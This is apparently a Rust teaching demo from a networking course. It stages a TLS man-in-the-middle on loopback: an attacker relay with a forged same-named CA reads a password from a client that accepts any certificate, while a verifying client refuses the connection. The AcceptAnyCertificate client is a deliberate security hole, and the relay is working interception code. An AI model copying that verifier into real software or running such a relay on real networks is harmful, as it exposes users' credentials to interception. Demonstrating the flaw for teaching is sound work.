//! mitm: a man in the middle on loopback, and the one line of client code
//! that lets him read everything.
//!
//! ```text
//! cargo run -p lesson5-demos --bin mitm
//! ```
//!
//! Three parties, all in this process, all on 127.0.0.1:
//!
//! - the real server, with a certificate for `localhost` from the course CA;
//! - the attacker, who has got between the client and the server (on a real
//!   network: a rogue Wi-Fi access point, ARP or DNS spoofing). He presents
//!   a certificate for `localhost` too, from a CA he made himself, and relays
//!   everything to the real server, reading it on the way;
//! - two clients that believe they connect to `localhost`. The first "fixed"
//!   a certificate error by accepting any certificate; the second trusts the
//!   course CA only.

use lesson5_demos::{AcceptAnyCertificate, TestCa, client_config, provider, server_config};
use rustls::ClientConfig;
use rustls::pki_types::ServerName;
use std::sync::Arc;
use tokio::io::{AsyncBufReadExt, AsyncReadExt, AsyncWriteExt, BufReader};
use tokio::net::{TcpListener, TcpStream};
use tokio_rustls::{TlsAcceptor, TlsConnector};

#[tokio::main(flavor = "current_thread")]
async fn main() -> Result<(), Box<dyn std::error::Error>> {
    let course_ca = TestCa::new("netlings course CA");
    let attacker_ca = TestCa::new("netlings course CA"); // the same name: names cost nothing

    // The real server: reads one line, answers it.
    let real_config = server_config(&course_ca.issue_server(&["localhost"]));
    let server = TcpListener::bind("127.0.0.1:0").await?;
    let server_address = server.local_addr()?;
    tokio::spawn(async move {
        let acceptor = TlsAcceptor::from(Arc::new(real_config));
        while let Ok((tcp, _)) = server.accept().await {
            let acceptor = acceptor.clone();
            tokio::spawn(async move {
                let Ok(tls) = acceptor.accept(tcp).await else {
                    return;
                };
                let mut tls = BufReader::new(tls);
                let mut line = String::new();
                if tls.read_line(&mut line).await.is_ok() {
                    let reply = format!("server: logged in with {}", line.trim_end());
                    let _ = tls.get_mut().write_all(reply.as_bytes()).await;
                    let _ = tls.get_mut().shutdown().await;
                }
            });
        }
    });

    // The attacker: a TLS server with his own certificate for localhost,
    // and a TLS client of the real server, which trusts the course CA like
    // anybody may.
    let attacker_config = server_config(&attacker_ca.issue_server(&["localhost"]));
    let to_server = client_config(&course_ca);
    let attacker = TcpListener::bind("127.0.0.1:0").await?;
    let attacker_address = attacker.local_addr()?;
    println!("real server on {server_address}, the attacker on {attacker_address}");
    let attacker_task = tokio::spawn(async move {
        let acceptor = TlsAcceptor::from(Arc::new(attacker_config));
        let connector = TlsConnector::from(Arc::new(to_server));
        // Two victims come, one after the other.
        for _ in 0..2 {
            let Ok((tcp, _)) = attacker.accept().await else {
                return;
            };
            let victim = match acceptor.accept(tcp).await {
                Ok(victim) => victim,
                Err(error) => {
                    println!("attacker: the client refused my certificate: {error}");
                    continue;
                }
            };
            let upstream = TcpStream::connect(server_address).await.expect("upstream");
            let server_name = ServerName::try_from("localhost").expect("a DNS name");
            let server_side = connector
                .connect(server_name, upstream)
                .await
                .expect("upstream TLS");
            relay_and_read(victim, server_side).await;
        }
    });

    // Client 1: the mistake. Any certificate is accepted, so the attacker's
    // is, and TLS now encrypts the password... to the attacker.
    let careless = ClientConfig::builder_with_provider(provider())
        .with_safe_default_protocol_versions()?
        .dangerous()
        .with_custom_certificate_verifier(Arc::new(AcceptAnyCertificate))
        .with_no_client_auth();
    println!("\nclient 1 accepts any certificate; it connects to localhost (the attacker answers)");
    match talk(careless, attacker_address).await {
        Ok(reply) => println!("client 1 got: {reply:?}"),
        Err(error) => println!("client 1 failed: {error}"),
    }

    // Client 2: verification on. The attacker's certificate names
    // localhost, and its issuer has the course CA's very name, but the
    // course CA's key did not sign it.
    println!("\nclient 2 trusts the course CA only; it connects to the same place");
    match talk(client_config(&course_ca), attacker_address).await {
        Ok(reply) => println!("client 2 got: {reply:?}"),
        Err(error) => println!("client 2 refused the connection: {error}"),
    }
    // Let the attacker finish printing his side of it.
    attacker_task.await?;
    Ok(())
}

/// Connects to `address` as if to `localhost`, logs in, returns the reply.
async fn talk(config: ClientConfig, address: std::net::SocketAddr) -> std::io::Result<String> {
    let tcp = TcpStream::connect(address).await?;
    let name = ServerName::try_from("localhost").expect("a DNS name");
    let mut tls = TlsConnector::from(Arc::new(config))
        .connect(name, tcp)
        .await?;
    tls.write_all(b"PASSWORD hunter2\n").await?;
    let mut reply = String::new();
    tls.read_to_string(&mut reply).await?;
    Ok(reply)
}

/// Copies the client's line to the server and the server's reply back,
/// printing both in plain text: the attacker holds both sessions' keys.
async fn relay_and_read<C, S>(victim: C, server: S)
where
    C: tokio::io::AsyncRead + tokio::io::AsyncWrite + Unpin,
    S: tokio::io::AsyncRead + tokio::io::AsyncWrite + Unpin,
{
    let mut victim = BufReader::new(victim);
    let mut server = BufReader::new(server);
    let mut line = String::new();
    if victim.read_line(&mut line).await.is_err() {
        return;
    }
    println!("attacker read from the client: {:?}", line);
    let _ = server.get_mut().write_all(line.as_bytes()).await;
    let mut reply = String::new();
    let _ = server.read_to_string(&mut reply).await;
    println!("attacker read from the server: {reply:?}");
    let _ = victim.get_mut().write_all(reply.as_bytes()).await;
    let _ = victim.get_mut().shutdown().await;
}
